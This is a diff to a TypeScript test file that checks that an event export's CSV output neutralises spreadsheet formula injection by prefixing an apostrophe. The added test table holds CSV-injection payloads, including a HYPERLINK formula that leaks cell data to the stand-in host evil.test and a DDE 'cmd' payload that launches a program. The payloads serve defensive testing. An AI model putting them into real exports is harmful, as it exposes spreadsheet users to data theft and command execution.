@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { formatEvents } from '../../src/modules/event-export/event-formats.ts';
 import { type EventBatch, rowBatch } from '../../src/modules/event-store/event-batch.ts';
 import { blankRow, EVENT_COLUMNS, type EventRow } from '../../src/modules/event-store/event-row.ts';
-import { exportedRecord } from './support.ts';
+import { exportedRecord, parseCsv } from './support.ts';
 
 /**
  * The formats write bytes straight from a batch's values (docs/decisions/028); what they write must be
@@ -73,9 +73,28 @@ async function formatted(batch: EventBatch, format: 'ndjson' | 'csv') {
 
 const csvField = (value: string | number | null) => {
   if (value === null) return '';
-  const text = String(value);
+  let text = String(value);
+  if (typeof value === 'string' && /^[=+\-@\t\r]/.test(text) && !/^[+-]?\d+(\.\d+)?$/.test(text))
+    text = `'${text}`;
   return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
 };
+
+/** Cells a spreadsheet would run (OWASP "CSV Injection"), each with how the CSV must write it. */
+const FORMULAS: [string, string][] = [
+  [
+    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
+    `"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`,
+  ],
+  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
+  ['+1+1', "'+1+1"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+  ['\t=1', "'\t=1"],
+  ['\r=1', `"'\r=1"`],
+  ['-32603', '-32603'],
+  ['+44.5', '+44.5'],
+  ['a=1', 'a=1'],
+];
 
 describe('the export formats', () => {
   const expectedNdjson = rows()
@@ -95,5 +114,37 @@ describe('the export formats', () => {
   it('writes RFC 4180 CSV with a header row, from strings and from UTF-8 bytes', async () => {
     expect(await formatted(rowBatch(rows()), 'csv')).toBe(expectedCsv);
     expect(await formatted(bytesBatch(rows()), 'csv')).toBe(expectedCsv);
+  });
+
+  it('neutralises spreadsheet formulas in CSV cells with a leading apostrophe, and leaves NDJSON raw', async () => {
+    const formulaRows = FORMULAS.map(([text], index) => ({
+      ...blankRow({
+        project_id: 'p-1',
+        id: `f-${index}`,
+        type: 'page_view',
+        ts: Date.UTC(2026, 2, 1) + index,
+        received_at: Date.UTC(2026, 2, 1),
+        user_id: 'u-1',
+        session_id: 's-1',
+        origin: 'app.example.com',
+      }),
+      path: text,
+      utm_source: text,
+    }));
+    const pathColumn = EVENT_COLUMNS.findIndex(({ name }) => name === 'path');
+    const sourceColumn = EVENT_COLUMNS.findIndex(({ name }) => name === 'utm_source');
+    for (const batch of [rowBatch(formulaRows), bytesBatch(formulaRows)]) {
+      const text = await formatted(batch, 'csv');
+      const records = parseCsv(text).slice(1);
+      FORMULAS.forEach(([original, written], index) => {
+        expect(text).toContain(`,${written},`);
+        const isNumber = /^[+-]?\d+(\.\d+)?$/.test(original);
+        const neutralised = isNumber || original === 'a=1' ? original : `'${original}`;
+        expect(records[index]?.[pathColumn]).toBe(neutralised);
+        expect(records[index]?.[sourceColumn]).toBe(neutralised);
+      });
+    }
+    const ndjson = (await formatted(rowBatch(formulaRows), 'ndjson')).trim().split('\n');
+    expect(ndjson.map((line) => JSON.parse(line).utm_source)).toEqual(FORMULAS.map(([text]) => text));
   });
 });
